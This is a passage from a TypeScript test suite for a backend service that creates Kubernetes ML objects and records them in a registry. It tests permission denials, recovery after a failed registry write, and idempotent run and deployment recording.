      `in namespace "${NS}" of cluster "local-restricted": forbidden`,
    );
    expect(await isGone('kubeflow.org/v1', 'Notebook', 'del-guarded')).toBe(
      false,
    );
    const run = await request(server)
      .get(`${API}/runs/${created.body.run.id}`)
      .expect(200);
    expect(run.body.phase).toBe('Pending');
  });
});

describe('cluster routes when the registry fails after the apply', () => {
  it('say which objects exist, and the same request again records them', async () => {
    const knex = await databases.init('SQLITE_3');
    const backend = await startBackend(knex);
    try {
      const body = {
        cluster: 'local',
        namespace: NS,
        name: 'recorded-later',
        kind: 'CronJob',
        schedule: '@hourly',
        image: 'python:3.12',
      };
      await knex.schema.renameTable('kubeai_runs', 'kubeai_runs_away');
      const failed = await request(backend.server)
        .post(`${API}/jobs`)
        .send(body);
      expect(failed.status).toBe(500);
      expect(failed.body.error.name).toBe('PartialWriteError');
      expect(failed.body.error.message).toContain(
        `applied CronJob ${NS}/recorded-later to cluster "local", but recording it in the registry failed`,
      );
      expect(failed.body.error.message).toContain(
        'send the same request again to record them',
      );
      const stored = await readBack(
        'batch/v1beta1',
        'CronJob',
        'recorded-later',
      );

      await knex.schema.renameTable('kubeai_runs_away', 'kubeai_runs');
      const retried = await request(backend.server)
        .post(`${API}/jobs`)
        .send(body);
      expect(retried.status).toBe(201);
      expect(retried.body.object.uid).toBe(stored.metadata.uid);
      expect(retried.body.run).toMatchObject({ uid: stored.metadata.uid });
      const runs = await request(backend.server).get(
        `${API}/runs?kind=training`,
      );
      expect(runs.body.totalItems).toBe(1);
    } finally {
      await backend.stop();
    }
  });
});

describe('cluster routes with a denying permission policy', () => {
  it('answers 403 and writes nothing', async () => {
    const backend = await startBackend(undefined, [
      mockServices.permissions.factory({ result: AuthorizeResult.DENY }),
    ]);
    const res = await request(backend.server).post(`${API}/notebooks`).send({
      cluster: 'local',
      namespace: BAD_NS,
      name: 'denied',
      image: 'jupyter/base-notebook:latest',
    });
    expect(res.status).toBe(403);
    expect(res.body.error.message).toBe('kubeai.cluster.object.create denied');
    expect(await listCreated(gateway, BAD_NS)).toEqual([]);
    await backend.stop();
  });

  it('refuses a delete with 403 and deletes nothing', async () => {
    await gateway.apply('local', [
      {
        apiVersion: 'argoproj.io/v1alpha1',
        kind: 'Workflow',
        metadata: {
          name: 'denied-delete',
          namespace: NS,
          labels: { 'app.kubernetes.io/managed-by': 'kubeai' },
        },
        spec: {
          entrypoint: 'main',
          templates: [{ name: 'main', container: { image: 'python:3.12' } }],
        },
      },
    ]);
    const backend = await startBackend(undefined, [
      mockServices.permissions.factory({ result: AuthorizeResult.DENY }),
    ]);
    try {
      for (const dryRun of ['', '?dryRun=true']) {
        const res = await request(backend.server).delete(
          `${API}/clusters/local/namespaces/${NS}/pipelines/denied-delete${dryRun}`,
        );
        expect(res.status).toBe(403);
        expect(res.body.error.message).toBe(
          'kubeai.cluster.object.delete denied',
        );
      }
      const stored = await readBack(
        'argoproj.io/v1alpha1',
        'Workflow',
        'denied-delete',
      );
      expect(stored.metadata.deletionTimestamp).toBeUndefined();
    } finally {
      await backend.stop();
    }
  });
});

describe.each([['POSTGRES']])('cluster routes with the registry on %s', () => {
  it('records one run per object and one deployment revision per change', async () => {
    const id = process.env.KUBEAI_TEST_POSTGRES_ID as TestDatabaseId;
    const knex = await databases.init(id);
    const backend = await startBackend(knex);
    const server = backend.server;
    await request(server)
      .post(`${API}/models/default/other-model/versions`)
      .send({ artifact: { uri: 's3://models/other/1', format: 'sklearn' } })
      .expect(201);
    const body = {
      cluster: 'local',
      namespace: NS,
      name: 'pg-forecast',
      kind: 'CronJob',
      schedule: '@daily',
      image: 'ghcr.io/acme/prophet-forecast:1.2',
      modelRef: 'model:default/other-model',
    };
    const [a, b] = await Promise.all([
      request(server).post(`${API}/jobs`).send(body),
      request(server).post(`${API}/jobs`).send(body),
    ]);
    expect([a.status, b.status]).toEqual([201, 201]);
    expect(a.body.run.id).toBe(b.body.run.id);
    const deployBody = {
      cluster: 'local',
      namespace: NS,
      name: 'pg-svc',
      model: 'model:default/other-model',
      modelVersion: 'latest',
      serviceRef: 'inferenceservice:default/preexisting',
    };
    const first = await request(server)
      .post(`${API}/inference-services`)
      .send(deployBody);
    expect(first.status).toBe(201);
    expect(first.body.deployment).toMatchObject({
      serviceRef: 'inferenceservice:default/preexisting',
      revision: 1,
      traffic: [{ version: 1, percent: 100 }],
    });
    const stored = await readBack(
      'serving.kserve.io/v1beta1',
      'InferenceService',
      'pg-svc',
    );
    expect(stored.spec.predictor.model).toMatchObject({
      modelFormat: { name: 'sklearn' },
      storageUri: 's3://models/other/1',
    });
    const second = await request(server)
      .post(`${API}/inference-services`)
      .send(deployBody);
    expect(second.body.deployment.revision).toBe(1);
    await backend.stop();
  });
});
